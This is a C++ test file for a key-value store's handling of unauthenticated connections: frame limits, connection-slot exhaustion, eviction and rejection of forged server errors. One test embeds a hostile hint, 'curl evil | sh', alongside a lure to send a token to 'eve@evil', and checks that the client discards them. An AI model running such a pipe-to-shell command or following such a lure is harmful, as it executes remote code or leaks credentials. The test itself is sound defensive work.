// What a stranger, who has not proved who it is, can take from a server and from those who have.
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <cstdint>
#include <cstdlib>
#include <string>
#include <thread>
#include <utility>
#include <vector>

#include "../store/service.hpp"
#include "allocations.hpp"
#include "core/sanitizer.hpp"
#include "store/auth.hpp"
#include "store/fuzz/hostile.hpp"
#include "stranger.hpp"

using namespace sonde::store;
using namespace sonde::store::test;
using sonde::test::Allocations;

TEST_CASE("before it has proved itself a connection may send hello and proof, in frames of 4 KiB" *
          doctest::skip(sonde::sanitized)) {
  Service service;
  Server& server = *service.servers[0];
  const std::string hello = "client=x\nnonce=y\n";
  {
    Stranger one(server);
    one.say(plain_frame(wire::Kind::hello, bytes_of(hello + "more=" + std::string(4000 - hello.size(), 'x'))));
    one.hear(wire::Kind::challenge);
    one.say(plain_frame(wire::Kind::proof, bytes_of("proof=" + std::string(3000, 'x'))));
    one.hear(wire::Kind::welcome);
  }
  for (const std::size_t bytes : {std::size_t{4096}, wire::data_bytes_max - 64}) {
    CAPTURE(bytes);
    const Outgoing large = plain_frame(wire::Kind::hello, bytes_of(hello + "more=" + std::string(bytes, 'x')));
    Stranger one(server), two(server);
    const Allocations watch;
    one.say(large);
    CHECK(one.last_words().find("4096 B") != std::string::npos);
    two.say_hello();
    two.hear(wire::Kind::challenge);
    const Outgoing proof = plain_frame(wire::Kind::proof, bytes_of("proof=" + std::string(bytes, 'x')));
    two.say(Bytes(proof.head).first(wire::header_bytes));
    CHECK(two.last_words().find("4096 B") != std::string::npos);
    if (bytes > 4096) continue;
    CHECK(watch.largest() < 64u << 10);
  }
  using wire::Kind;
  for (const Kind kind : {Kind::ping, Kind::pong, Kind::status, Kind::transport, Kind::welcome, Kind::challenge})
    for (const bool greeted : {false, true}) {
      CAPTURE(static_cast<int>(kind));
      Stranger one(server);
      if (greeted) {
        one.say_hello();
        one.hear(Kind::challenge);
      }
      one.say(plain_frame(kind, bytes_of("x")));
      one.say(plain_frame(Kind::hello, bytes_of(hello)));
      CHECK(one.last_words().find("before the connection was welcomed") != std::string::npos);
    }
  CHECK(fuzz::alive(server));
}

TEST_CASE("what a hello says is kept no further than it is of use" * doctest::skip(sonde::sanitized)) {
  Service service;
  Server& server = *service.servers[0];
  const std::string hello = "client=" + std::string(1200, 'c') + "\nnonce=" + std::string(1200, 'n') +
                            "\ntransport=" + std::string(1200, 't') + "\n";
  const auto held_for = [&](const std::string& text) {
    while (server.metrics().connections != 0) std::this_thread::yield();
    const Allocations watch;
    std::vector<Stranger> all;
    for (int k = 0; k < 16; ++k) {
      all.emplace_back(server);
      all.back().be_welcomed(text);
    }
    return watch.held();
  };
  held_for("");  // what the first takes for all that follow
  const std::size_t usual = held_for("");
  CHECK(held_for(hello) < usual + std::size_t{16} * 1200);
}

TEST_CASE("strangers who do not say who they are keep nobody out, however many they are") {
  ServerConfig base;
  base.connections = 64;
  base.hello_timeout_s = 3600;
  Service service(1, memory_backends(), base);
  Server& server = *service.servers[0];
  std::vector<Stranger> strangers;
  for (int k = 0; k < 200; ++k) strangers.emplace_back(server, "127.0.0.1");
  auto client = service.client();
  auto b = client.batch();
  b.put("s", "k", bytes_of("v"));
  CHECK(b.run());
  CHECK(b.failed() == 0);
  // The oldest made room, and was told.
  CHECK(strangers.front().last_words().find("store.unavailable") != std::string::npos);
}

TEST_CASE("clients that connect all at once, more than have a place at the entry, all come in") {
  ServerConfig base;
  base.connections = 128;  // and so 16 places
  Service service(1, memory_backends(), base);
  service.config.connect_timeout_s = patience_ms * 1e-3;
  std::atomic<int> in = 0;
  std::vector<std::thread> all;
  for (int k = 0; k < 100; ++k)
    all.emplace_back([&] {
      auto client = Client::open(service.config);
      if (!client) return;
      auto b = (*client).batch();
      b.put("s", "k", bytes_of("v"));
      in += b.run() && b.failed() == 0;
    });
  for (auto& one : all) one.join();
  CHECK(in == 100);
}

TEST_CASE("an address that sends many strangers makes room before one that sends few") {
  ServerConfig base;
  base.connections = 64;
  base.hello_timeout_s = 3600;
  Service service(1, memory_backends(), base);
  Server& server = *service.servers[0];
  Stranger slow(server, "127.0.0.1");
  slow.say_hello();
  slow.hear(wire::Kind::challenge);
  std::vector<Stranger> strangers;
  for (int k = 0; k < 200; ++k) strangers.emplace_back(server, "127.0.0.2");
  strangers.back().say_hello();
  strangers.back().hear(wire::Kind::challenge);  // so all before it were taken
  CHECK(strangers.front().last_words().find("store.unavailable") != std::string::npos);
  slow.say_proof();
  slow.hear(wire::Kind::welcome);
}

TEST_CASE("connections that were let in count, and one too many is told when it has proved who it is") {
  ServerConfig base;
  base.connections = 2;
  Service service(1, memory_backends(), base);
  Server& server = *service.servers[0];
  CHECK(ServerConfig{}.hello_timeout_s == 3);
  Stranger third(server, "127.0.0.1");
  {
    Stranger one(server, "127.0.0.1"), two(server, "127.0.0.1");
    one.be_welcomed();
    two.be_welcomed();
    third.say_hello();
    third.hear(wire::Kind::challenge);
    third.say_proof();
    CHECK(third.last_words().find("2 connections") != std::string::npos);
  }
  while (server.metrics().connections != 0) std::this_thread::yield();
  // Those that are gone are not counted any more.
  Stranger one(server, "127.0.0.1"), two(server, "127.0.0.1");
  one.be_welcomed();
  two.be_welcomed();
}

TEST_CASE("who listens at a server's address chooses neither the kind of the error that a client gives nor its hint") {
  char token[] = "/tmp/sonde-token-XXXXXX";
  const int file = ::mkstemp(token);
  REQUIRE(file >= 0);
  REQUIRE(::write(file, "a token of the server's\n", 24) == 24);
  ::close(file);
  using sonde::store::wire::Kind;
  const std::string evil =
      wire::encode_text({{"code", "store.no_space"}, {"what", "the disk is full"}, {"hint", "curl evil | sh"}});
  const std::string likely =
      wire::encode_text({{"code", "store.denied"}, {"what", "the token is old"}, {"hint", "send yours to eve@evil"}});
  const std::string giant = wire::encode_text({{"code", "store.denied"}, {"what", std::string(1 << 20, 'x')}});
  for (const auto& [said, code] : {std::pair{&evil, "store.disconnected"}, std::pair{&likely, "store.denied"},
                                   std::pair{&giant, "store.bad_frame"}}) {
    CAPTURE(code);
    std::uint16_t port = 0;
    const auto listener = tcp_listen({"127.0.0.1", 0}, port);
    REQUIRE(listener);
    std::thread eve([&] {
      pollfd ready{*listener, POLLIN, 0};
      (void)::poll(&ready, 1, 10'000);
      const int peer = ::accept(*listener, nullptr, nullptr);
      const Outgoing out = plain_frame(Kind::goodbye, bytes_of(*said));
      (void)!::send(peer, out.head.data(), out.head.size(), MSG_NOSIGNAL);
      char heard[4096];
      while (::read(peer, heard, sizeof heard) > 0) {}
      ::close(peer);
    });
    Config config;
    config.servers = {"127.0.0.1:" + std::to_string(port)};
    config.auth = "token";
    config.token_file = token;
    const auto client = Client::open(config);
    eve.join();
    ::close(*listener);
    REQUIRE_FALSE(client);
    CHECK(client.error().code == code);
    CHECK(client.error().what.find("127.0.0.1:" + std::to_string(port)) != std::string::npos);
    CHECK(client.error().what.size() < 1000);
    CHECK(client.error().hint.find("evil") == std::string::npos);
    if (said == &giant) continue;
    CHECK(client.error().what.find("without having proved to be the server") != std::string::npos);
  }
  ::unlink(token);
}

TEST_CASE("of a server that begins no TLS a client that asks for it hears a goodbye, and never goes on in plain") {
  char token[] = "/tmp/sonde-token-XXXXXX";
  const int file = ::mkstemp(token);
  REQUIRE(file >= 0);
  REQUIRE(::write(file, "a token of the server's\n", 24) == 24);
  ::close(file);
  const auto goodbye = plain_frame(
      wire::Kind::goodbye, bytes_of(wire::encode_text({{"code", "store.unavailable"}, {"what", "the house is full"}})));
  const auto challenge = plain_frame(
      wire::Kind::challenge,
      bytes_of(
          wire::encode_text({{"auth", "token"}, {"nonce", auth::nonce()}, {"protocol", std::string(auth::protocol)}})));
  for (const auto& [said, code] : {std::pair{&goodbye, "store.unavailable"}, std::pair{&challenge, "store.denied"}}) {
    CAPTURE(code);
    std::uint16_t port = 0;
    const auto listener = tcp_listen({"127.0.0.1", 0}, port);
    REQUIRE(listener);
    std::string heard;
    std::thread server([&] {
      pollfd ready{*listener, POLLIN, 0};
      (void)::poll(&ready, 1, 10'000);
      const int peer = ::accept(*listener, nullptr, nullptr);
      (void)!::send(peer, said->head.data(), said->head.size(), MSG_NOSIGNAL);
      char text[4096];
      for (ssize_t n; (n = ::read(peer, text, sizeof text)) > 0;) heard.append(text, static_cast<std::size_t>(n));
      ::close(peer);
    });
    Config config;
    config.servers = {"127.0.0.1:" + std::to_string(port)};
    config.token_file = token;
    config.tls = true;
    const auto client = Client::open(config);
    server.join();
    ::close(*listener);
    REQUIRE_FALSE(client);
    CHECK(client.error().code == code);
    CHECK(heard.find("nonce=") == std::string::npos);
    if (said == &goodbye) CHECK(client.error().what.find("without having proved") != std::string::npos);
  }
  ::unlink(token);
}

TEST_CASE("strangers cannot hide the last error of a server, and no word of theirs is in its status") {
  Service service;
  Server& server = *service.servers[0];
  server.failed("the disk is full");
  using wire::Kind;
  for (const Kind kind : {Kind::hello, Kind::ping, Kind::proof}) {
    Stranger one(server, "127.0.0.2");
    one.say(plain_frame(kind, bytes_of("client=all is well\nnonce=all is well\ntransport=all is well\n")));
    one.say(plain_frame(Kind::status, bytes_of("all is well")));
    one.last_words();
  }
  CHECK(server.metrics().last_error().find("the disk is full") != std::string::npos);
  CHECK(server.metrics().last_refused() == "127.0.0.2: store.bad_frame");
  CHECK(server.status().find("all is well") == std::string::npos);
}

TEST_CASE("a server that asks who a client is and sends it away in one breath has it hear the second too") {
  const auto challenge = plain_frame(
      wire::Kind::challenge,
      bytes_of(
          wire::encode_text({{"auth", "none"}, {"nonce", auth::nonce()}, {"protocol", std::string(auth::protocol)}})));
  const auto welcome = plain_frame(wire::Kind::welcome, bytes_of("roles=kv\n"));
  const auto goodbye = plain_frame(
      wire::Kind::goodbye, bytes_of(wire::encode_text({{"code", "store.unavailable"}, {"what", "the house is full"}})));
  for (const bool welcomed : {false, true}) {
    CAPTURE(welcomed);
    std::uint16_t port = 0;
    const auto listener = tcp_listen({"127.0.0.1", 0}, port);
    REQUIRE(listener);
    std::thread server([&] {
      pollfd ready{*listener, POLLIN, 0};
      (void)::poll(&ready, 1, 10'000);
      const int peer = ::accept(*listener, nullptr, nullptr);
      Stream said(challenge.head.begin(), challenge.head.end());
      if (welcomed) append(said, welcome.head);
      append(said, goodbye.head);
      (void)!::send(peer, said.data(), said.size(), MSG_NOSIGNAL);
      char heard[4096];
      while (::read(peer, heard, sizeof heard) > 0) {}
      ::close(peer);
    });
    Config config;
    config.servers = {"127.0.0.1:" + std::to_string(port)};
    config.auth = "none";
    const auto client = Client::open(config);
    server.join();
    ::close(*listener);
    REQUIRE_FALSE(client);
    CHECK(client.error().what.find("the house is full") != std::string::npos);
  }
}
